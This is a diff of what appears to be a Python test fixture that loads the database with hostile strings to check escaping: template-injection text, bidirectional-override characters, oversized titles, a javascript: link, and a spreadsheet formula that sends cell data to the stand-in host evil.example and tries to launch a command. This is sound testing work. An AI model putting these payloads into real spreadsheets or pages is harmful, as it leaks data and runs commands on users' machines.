@@ -16,7 +16,7 @@ POISON = (
     "{{ 6 * 7 * 1000 + 7 }} {% raw %} ${6*7} &lt;b&gt; ]]>"
 )
 SUM = "42007"  # what the braces would become
-TURNED = f"{OVERRIDE}{ISOLATE}desrever"
+TURNED = f"{OVERRIDE}desrever{ISOLATE}"
 FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1)+cmd|' /C calc'!A0"
 LINK = "javascript:window.pwned='address'//"
 LONG = "wide" * 1000  # one word, for the width of a phone
@@ -63,6 +63,13 @@ def poison(conn: Any) -> None:
         "update ingest.publishers set name = %s || name, country = %s, language = %s",
         [f"{POISON}{TURNED} ", '"><b', "x\" onclick='1"],
     )
+    # One title is a megabyte long, some are one long word.
+    for title, first, last in ((POISON + "wide " * 200_000, 0, 0), (LONG, 2, 4)):
+        conn.execute(
+            "update ingest.versions set title = %s where version_id in (select version_id from "
+            "(select distinct version_id from analysis.article_evidence) v order by version_id limit %s offset %s)",
+            [title, last - first + 1, first],
+        )
     # A sentence is found in its paragraph, so both change together; figures quote it.
     conn.execute("update ingest.paragraphs set text = %s || text", [f"{POISON}{TURNED} "])
     conn.execute(
